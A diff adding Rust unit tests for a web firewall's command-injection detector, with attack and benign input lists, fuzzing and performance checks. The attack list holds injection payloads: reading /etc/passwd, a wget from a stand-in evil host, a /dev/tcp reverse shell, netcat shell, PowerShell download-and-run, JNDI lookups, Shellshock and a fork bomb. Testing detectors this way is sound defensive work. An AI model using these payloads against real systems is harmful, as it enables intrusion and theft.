@@ -1,0 +1,294 @@
+//! Unit tests of the command-injection detector.
+
+use super::commands::{COMMAND_TABLE, FAMILIES};
+use super::prefilter::first_word_byte;
+use super::*;
+
+fn hit(s: &str) -> Option<&'static str> {
+    detect(s).map(|f| f.rule)
+}
+
+#[test]
+fn attacks() {
+    for a in [
+        "; cat /etc/passwd",
+        "127.0.0.1;id",
+        "127.0.0.1 | whoami",
+        "x && wget http://evil.example/x.sh",
+        "$(whoami)",
+        "`id`",
+        "a`uname -a`",
+        "c'a't /etc/passwd",
+        "c\"a\"t /etc/passwd",
+        ";c\\at /etc/passwd",
+        "cat${IFS}/etc/passwd",
+        ";cat$IFS$9/etc/passwd",
+        ";{cat,/etc/passwd}",
+        "/???/c?t /etc/passwd",
+        "/bin/c[a]t /etc/passwd",
+        "|c^m^d /c dir",
+        "& cmd.exe /c whoami",
+        "; powershell -enc SQBFAFgA",
+        "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
+        "() { :; }; /bin/bash -c id",
+        "${jndi:ldap://x.example/a}",
+        "${${lower:j}ndi:ldap://x.example/a}",
+        "${${::-j}${::-n}di:rmi://x/a}",
+        "$((1+1))",
+        ";nc -e /bin/sh 10.0.0.1 4444",
+        "| python -c 'import os'",
+        "; ping -c 10 127.0.0.1",
+        ";sleep 5",
+        "a=cat;b=/etc/passwd;$a $b",
+        "FOR /L %G IN (1,1,5) DO echo %G",
+        "IF EXIST C:\\boot.ini type C:\\boot.ini",
+        "; certutil -urlcache -split -f http://x/a.exe",
+        ":(){ :|:& };:",
+        "\r\nMAIL FROM:<a@b.example>",
+        "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
+        "echo aWQ= | base64 -d | sh",
+    ] {
+        assert!(hit(a).is_some(), "missed {a:?}");
+    }
+}
+
+#[test]
+fn benign() {
+    for b in [
+        "O'Brien",
+        "select a plan",
+        "1 or 2 bedrooms",
+        "a<b && c>d",
+        "I'm 5'10\"",
+        "rock & roll",
+        "Tom & Jerry",
+        "R&D; budget",
+        "price > 5",
+        "a|b",
+        "| Name | Value |",
+        "/home/user/docs",
+        "https://example.com/a?b=c",
+        "john.doe@example.com",
+        "C:\\Program Files",
+        "Mozilla/5.0",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
+        "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
+        "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; ARM; Trident/6.0; Touch)",
+        "curl/7.68.0",
+        "Wget/1.21.2",
+        "{\"name\": \"cat\", \"tags\": [\"a\", \"b\"], \"ok\": true}",
+        "I like cat videos",
+        "key=ls foo bar",
+        "a b=ls foo",
+        "ping me later",
+        "ls",
+        "find a doctor",
+        "sleep well",
+        "time warner",
+        "how to use ls -la",
+        "Hello; time he came",
+        "Time & Date",
+        "Save & Exit",
+        "Copy & Paste",
+        "$HOME",
+        "$ENV{'HOME'}",
+        "{0}",
+        "%n",
+        "hello world (test)",
+        "page[1]",
+        "data[index]",
+        "Does the * shine bright?",
+        "if you want, come",
+        "for the win",
+        "The alias is not = to the name",
+        "We received this mail from Mars",
+        "List 3 things\r\nTop 10 rules",
+        "2024-01-02",
+        "550e8400-e29b-41d4-a716-446655440000",
+        "SGVsbG8gd29ybGQ=",
+        "$5.99 & free shipping",
+        "**bold** and `code`",
+        "use `cat` to print a file",
+        "~/docs",
+    ] {
+        assert_eq!(hit(b), None, "false positive on {b:?}: {:?}", detect(b));
+    }
+}
+
+#[test]
+fn prefilters_are_sound() {
+    // every form `lookup` accepts passes the prefix filters
+    let t = &*COMMAND_TABLE;
+    for &(k, _) in &t.keys {
+        let mut forms = vec![k.to_vec(), [k, b".exe"].concat()];
+        if !k.ends_with(b".") && !k.last().is_some_and(u8::is_ascii_digit) {
+            forms.push([k, b"3.1"].concat());
+        }
+        if k.len() > 1 {
+            forms.push([b"[", &k[..1], b"]", &k[1..]].concat());
+        }
+        for f in forms {
+            assert!(lookup(&f).is_some(), "{:?}", String::from_utf8_lossy(&f));
+            // (a first word ends at the first byte outside `first_word_byte`)
+            if f.iter().all(|&c| first_word_byte(c)) {
+                let v = [f.as_slice(), b" -la /etc"].concat();
+                assert!(worth_looking(&v, byte_classes(&v)), "{:?}", v);
+            }
+        }
+    }
+    for p in FAMILIES {
+        assert!(lookup(&[p, b"x"].concat()).is_some());
+    }
+    // the PowerShell gate holds wherever the regex matches
+    for s in [
+        "invoke-expression",
+        "new-object net.webclient",
+        "start-process x",
+        "set-mppreference",
+        "add-mppreference",
+        "set-executionpolicy",
+        "get-wmiobject",
+        "frombase64string (",
+        "downloadfile\u{a0}(",
+        "downloaddata(",
+        "x-encodedcommand",
+        "iex $x",
+        "iex(",
+        "powershell.exe -nop",
+    ] {
+        assert!(RE_POWERSHELL.is_match(s.as_bytes()), "{s}");
+        assert!(ps_gate(s.as_bytes()), "{s}");
+    }
+}
+
+#[test]
+fn spans_are_valid() {
+    for a in ["é;cat /etc/passwd", "ü${jndi:ldap://x/ä}", "日本;id"] {
+        let f = detect(a).expect("hit");
+        assert!(a.is_char_boundary(f.span.start) && a.is_char_boundary(f.span.end));
+        assert!(f.span.start < f.span.end && f.span.end <= a.len());
+    }
+}
+
+#[test]
+fn no_panic_on_random_input() {
+    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
+    let alphabet: Vec<char> = ";|&$`(){}[]<>'\"\\^~!?*=/ \n\tabcIFSjndi:-.é日\u{0}\u{FFFD}"
+        .chars()
+        .collect();
+    for _ in 0..20_000 {
+        let mut s = String::new();
+        x ^= x << 13;
+        x ^= x >> 7;
+        x ^= x << 17;
+        let len = (x % 64) as usize;
+        for _ in 0..len {
+            x ^= x << 13;
+            x ^= x >> 7;
+            x ^= x << 17;
+            s.push(alphabet[(x % alphabet.len() as u64) as usize]);
+        }
+        if let Some(f) = detect(&s) {
+            assert!(s.is_char_boundary(f.span.start) && s.is_char_boundary(f.span.end));
+        }
+        let bytes: Vec<u8> = (0..len).map(|k| (x >> (k % 56)) as u8).collect();
+        let _ = detect(&String::from_utf8_lossy(&bytes));
+    }
+}
+
+fn strict_rule(s: &str) -> Option<&'static str> {
+    assert!(detect(s).is_none(), "level 1 already fires on {s:?}");
+    let f = detect_strict(s)?;
+    assert!(
+        s.get(f.span.clone()).is_some_and(|t| !t.is_empty()),
+        "bad span in {s:?}"
+    );
+    Some(f.rule)
+}
+
+#[test]
+fn level2_command_lines_with_plain_arguments() {
+    for a in [
+        "chef report nodes",
+        "chef report nodes\n",
+        "pip install something",
+        "ls foo bar",
+        "shutdown\n",
+        "  knife node list",
+        "LANG=C ls foo bar",
+    ] {
+        assert_eq!(strict_rule(a), Some(strict::R_PL2_UNIX), "{a:?}");
+    }
+}
+
+#[test]
+fn level2_command_glued_to_a_separator() {
+    for a in [
+        ";top Something else 1 „The Title”. After space or new line more characters",
+        "Something else 2. After ;top something",
+        "x&&make all of it",
+    ] {
+        assert_eq!(strict_rule(a), Some(strict::R_PL2_UNIX), "{a:?}");
+    }
+    assert_eq!(strict_rule("tasklist svc"), Some(strict::R_PL2_WIN));
+}
+
+#[test]
+fn level2_leaves_prose_and_near_misses_alone() {
+    for b in [
+        "O'Brien",
+        "select a plan",
+        "1 or 2 bedrooms",
+        "a<b && c>d",
+        "Tom & Jerry",
+        "R&D top",
+        "P&ID top",
+        "Test spider",
+        "Java 1.1",
+        "stat statcrawler@gmail.com",
+        "cat videos are fun",
+        "make",
+        "ls foo bar baz qux quux",
+        "Cut orange quarters into crosswise slices about 1/8-inch thick.\n",
+        "Mount Airy basketball coach Bryan Hayes lectures his team.\n",
+        "Go to store.\nAt the store, shop.",
+        "see below; top of the page",
+        "I like cat videos",
+        "key=ls foo bar",
+        "a b=ls foo",
+        "Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.8.1)",
+    ] {
+        assert_eq!(detect(b).map(|f| f.rule), None, "level 1 on {b:?}");
+        assert_eq!(detect_strict(b).map(|f| f.rule), None, "level 2 on {b:?}");
+    }
+}
+
+#[test]
+fn level2_only_at_paranoia_2() {
+    use crate::waf::{detect_at, AttackCategory, Paranoia};
+    let v = "pip install something";
+    assert!(detect_at(AttackCategory::Rce, v, Paranoia::Level1).is_none());
+    let f = detect_at(AttackCategory::Rce, v, Paranoia::Level2).expect("level 2 fires");
+    assert_eq!(f.rule, "rce-pl2-unix-command");
+    assert_eq!(&v[f.span], "pip");
+    assert!(crate::waf::is_rule("rce-pl2-windows-command"));
+}
+
+#[test]
+fn level2_is_linear() {
+    let values = [
+        format!("{}{}", " ".repeat(30_000), "a=ls ".repeat(6_000)),
+        "x;top a b ".repeat(6_000),
+        format!("ls {}", "foo ".repeat(15_000)),
+    ];
+    for v in &values {
+        let t = std::time::Instant::now();
+        let _ = detect(v);
+        let _ = detect_strict(v);
+        assert!(
+            t.elapsed() < std::time::Duration::from_secs(2),
+            "{} bytes",
+            v.len()
+        );
+    }
+}
